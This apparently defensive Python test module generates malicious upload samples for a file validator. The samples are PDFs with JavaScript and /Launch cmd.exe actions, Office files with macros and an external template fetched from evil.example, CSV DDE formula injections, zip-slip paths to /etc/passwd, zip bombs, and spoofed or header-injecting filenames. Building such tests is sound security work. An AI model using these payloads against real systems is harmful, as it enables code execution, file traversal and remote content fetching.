"""Documents that are more, less or other than they say."""

import struct
from zipfile import ZIP_DEFLATED, ZIP_STORED

from projects.documents import EXTENSIONS
from tests.uploads.payloads import PAYLOADS, named, zipped

PDF = b"%%PDF-1.7\n1 0 obj << /Type /Catalog %s>> endobj\ntrailer << /Root 1 0 R >>\n%%%%EOF\n"
_MAIN = {"docx": "wordprocessingml.document", "xlsx": "spreadsheetml.sheet",
         "pptx": "presentationml.presentation"}  # fmt: skip
_FOLDER = {"docx": "word/document.xml", "xlsx": "xl/workbook.xml", "pptx": "ppt/presentation.xml"}
_RELATIONS = (
    '<Relationships><Relationship Id="a" Type="http://schemas/{kind}" '
    'Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>'
)
OPEN = ("odt", "ods", "odp")
OFFICE = tuple(_MAIN)
ARCHIVES = (*OPEN, *OFFICE)


def office(extension, *more, types=""):
    """Return the least that is an Office file of this kind, and more parts."""
    main = f"application/vnd.openxmlformats-officedocument.{_MAIN[extension]}.main+xml"
    listed = f'<Types><Override PartName="/{_FOLDER[extension]}" ContentType="{types or main}"/>'
    return zipped([("[Content_Types].xml", f"{listed}</Types>"),
                   (_FOLDER[extension], "<a>text</a>"), *more])  # fmt: skip


def open_document(extension, *more, kind=None, content="<office:document-content/>"):
    """Return the least that is an OpenDocument file of this kind, and more parts."""
    first = named("mimetype", compress_type=ZIP_STORED)
    return zipped([(first, kind or EXTENSIONS[extension]), ("content.xml", content), *more])


def archive(extension, *more):
    return (open_document if extension in OPEN else office)(extension, *more)


def good():
    """Give one of each kind that may come in."""
    yield "paper.pdf", PDF % b""
    yield "table.csv", b"street;degrees\nWilgenlaan;31\n"
    yield "notes.txt", "\ufeffWe measured in three streets.\n".encode()
    for extension in ARCHIVES:
        yield f"file.{extension}", archive(extension)


def disguised():
    """Give every payload under the name of every kind."""
    for extension in EXTENSIONS:
        for name, payload in PAYLOADS.items():
            yield f"{name}.{extension}", payload


def active():
    """Give documents that would run, fetch or carry something."""
    for words in (b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >> ",
                  b"/Names << /J#61vaScript 2 0 R >> ", b"/A << /S /Launch /F (cmd.exe) >> ",
                  b"/Names << /EmbeddedFiles 3 0 R >> ", b"/Type /EmbeddedFile ",
                  b"/Subtype /RichMedia ", b"/S /ImportData "):  # fmt: skip
        yield f"pdf-{len(words)}.pdf", PDF % words
    yield "far.pdf", PDF % (b"% padding\n" * 110_000 + b"/S /Launch ")
    for extension in OFFICE:
        yield f"vba.{extension}", office(extension, ("word/vbaProject.bin", b"\xd0\xcf"))
        yield f"vba-up.{extension}", office(extension, ("xl/VBAPROJECT.BIN", b"\xd0\xcf"))
        kind = f"application/vnd.ms-{extension}.macroEnabled.main+xml"
        yield f"types.{extension}", office(extension, types=kind)
        yield f"activex.{extension}", office(extension, ("word/activeX/activeX1.bin", b"a"))
        yield f"ole.{extension}", office(extension, ("word/embeddings/oleObject1.bin", b"a"))
        for what in ("attachedTemplate", "oleObject", "frame"):
            part = ("word/_rels/settings.xml.rels", _RELATIONS.format(kind=what))
            yield f"fetch-{what}.{extension}", office(extension, part)
    for extension in OPEN:
        yield f"basic.{extension}", open_document(extension, ("Basic/Standard/a.xml", "<a/>"))
        yield f"python.{extension}", open_document(extension, ("Scripts/python/a.py", "import os"))
        event = '<script:event-listener script:event-name="dom:load" xlink:href="vnd.sun"/>'
        yield f"event.{extension}", open_document(extension, content=event)
        other = "application/vnd.oasis.opendocument.text-template"
        yield f"template.{extension}", open_document(extension, kind=other)
    for words in (
        "=cmd|'/c calc'!A0",
        "1;+cmd|'/c calc'!A0",
        '"=DDE|""a""!b"',
        "-2+3+cmd|' /C a'!A0",
    ):
        yield f"formula-{len(words)}.csv", words.encode()


def packed():
    """Give archives that lead out of themselves, unfold without end, or lie."""
    slips = ("../../etc/passwd", "..\\..\\a.txt", "/etc/passwd", "C:\\a.txt", "a/../../b", "..")
    for extension in ARCHIVES:
        for number, name in enumerate(slips):
            yield f"slip-{number}.{extension}", archive(extension, (named(name), b"a"))
        for name in ("a.exe", "a.js", "a.html", "a.lnk", "run.BAT"):
            yield (
                f"holds-{name[:-4]}-{name[-3:]}.{extension}".replace(".js", "js"),
                archive(extension, (f"media/{name}", b"MZ")),
            )
        bomb = named("media/bomb.bin", compress_type=ZIP_DEFLATED)
        yield f"bomb.{extension}", archive(extension, (bomb, bytes(4_000_000)))
        yield f"lies.{extension}", lying(archive(extension, (bomb, bytes(3_000_000))))
        yield f"locked.{extension}", locked(archive(extension))
        yield f"many.{extension}", archive(extension, *((f"a/{n}", b"") for n in range(2500)))
        yield f"nested.{extension}", archive(extension, ("a.zip", zipped([("b.exe", b"MZ")])))
        whole = archive(extension)
        for tenth in (1, 5, 9):
            yield f"cut-{tenth}.{extension}", whole[: len(whole) * tenth // 10]
        yield f"before.{extension}", PAYLOADS["html"] + whole
        yield f"behind.{extension}", whole + PAYLOADS["html"]
    other = dict(zip(ARCHIVES, (*ARCHIVES[1:], ARCHIVES[0]), strict=True))
    for extension, wrong in other.items():
        yield f"as-{wrong}.{extension}", archive(wrong)


def lying(whole):
    """Return the archive with the unpacked sizes of its list made small."""
    data, at = bytearray(whole), 0
    while (at := data.find(b"PK\x01\x02", at)) >= 0:
        data[at + 24 : at + 28] = struct.pack("<I", 10)
        at += 4
    return bytes(data)


def locked(whole):
    """Return the archive with all parts marked as locked by a password."""
    data, at = bytearray(whole), 0
    while (at := data.find(b"PK\x01\x02", at)) >= 0:
        data[at + 8] |= 1
        at += 4
    return bytes(data)


def misnamed():
    """Give a good document under names that mislead, or are no names."""
    pdf = PDF % b""
    for name in (
        "a.exe.pdf", "a.svg.pdf", "a.html.pdf", "a.pdf.exe", "a.pdf.html", "a.docm", "a.xlsm",
        "a.pptm", "a.dotm", "a.zip", "a.svg", "a.html", "a.js", "a.pdf ", "a.pdf.", ".pdf", "pdf",
        "", "a.\u202efdp", "exe\u202efdp.pdf", "a\u200e.pdf", "a\x00.pdf", "a.pdf\x00.exe",
        "a\r\nX-Evil: 1.pdf", '"a".pdf', "../../a.pdf", "..\\..\\a.pdf", "/etc/a.pdf", "con.pdf",
        "a" * 300 + ".pdf", "\u0430.pdf", "a;b.pdf", "%2e%2e%2fa.pdf", "<script>.pdf", "a.PDF",
    ):  # fmt: skip
        yield name, pdf
